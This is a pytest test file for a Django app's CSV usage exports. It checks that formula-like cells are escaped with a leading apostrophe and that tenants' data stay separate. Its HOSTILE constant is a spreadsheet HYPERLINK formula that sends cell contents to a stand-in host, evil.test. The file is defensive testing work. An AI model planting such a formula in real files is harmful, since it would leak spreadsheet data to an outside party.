"""Every CSV the app writes opens in a spreadsheet as data: a hostile cell is never a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.test import Client

from docuchat.testing import Cast
from documents.models import Document
from usage import metering

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")'


def csv_rows(client: Client, slug: str = "acme") -> list[list[str]]:
    response = client.get(f"/t/{slug}/usage/export.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_it_escapes_a_document_named_like_a_formula_in_the_usage_csv(client: Client, cast: Cast) -> None:
    document = Document.objects.create(tenant=cast.acme, title=HOSTILE, sha256="a" * 64)
    metering.record(cast.acme, cast.owner, metering.Kind.DOCUMENT_EMBEDDING, "m", 10, document=document)
    client.force_login(cast.owner)
    rows = csv_rows(client)
    assert rows[1][-1] == "'" + HOSTILE


def test_it_escapes_a_member_whose_email_starts_like_a_formula(client: Client, cast: Cast) -> None:
    cast.member.email = "-2+3@acme.test"
    cast.member.save(update_fields=["email"])
    metering.record(cast.acme, cast.member, metering.Kind.CHAT, "gpt-4o-mini", 5, 5)
    client.force_login(cast.member)
    assert csv_rows(client)[1][1] == "'-2+3@acme.test"


def test_it_keeps_another_tenants_rows_out_of_the_csv(client: Client, cast: Cast) -> None:
    document = Document.objects.create(tenant=cast.globex, title=HOSTILE, sha256="b" * 64)
    metering.record(cast.globex, cast.other, metering.Kind.DOCUMENT_EMBEDDING, "m", 10, document=document)
    client.force_login(cast.owner)
    assert csv_rows(client) == [csv_rows(client)[0]]
    assert client.get("/t/globex/usage/export.csv").status_code == 404


def test_it_escapes_formula_cells_in_the_usage_report_command(cast: Cast) -> None:
    metering.record(cast.acme, None, metering.Kind.CHAT, "@SUM(1+1)", 5, 5)
    out = io.StringIO()
    call_command("usage_report", "--format", "csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][:3] == ["acme", "chat", "'@SUM(1+1)"]


def test_it_writes_csv_only_through_csvsafe() -> None:
    """The csv module is used in one place, docuchat/lib/csvsafe.py, so no CSV escapes escaping."""
    base = Path(settings.BASE_DIR)
    packages = [d for d in base.iterdir() if (d / "__init__.py").exists()]
    writers = [
        path.relative_to(base).as_posix()
        for package in packages
        for path in package.rglob("*.py")
        if "tests" not in path.parts
        and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.MULTILINE)
    ]
    assert writers == ["docuchat/lib/csvsafe.py"]
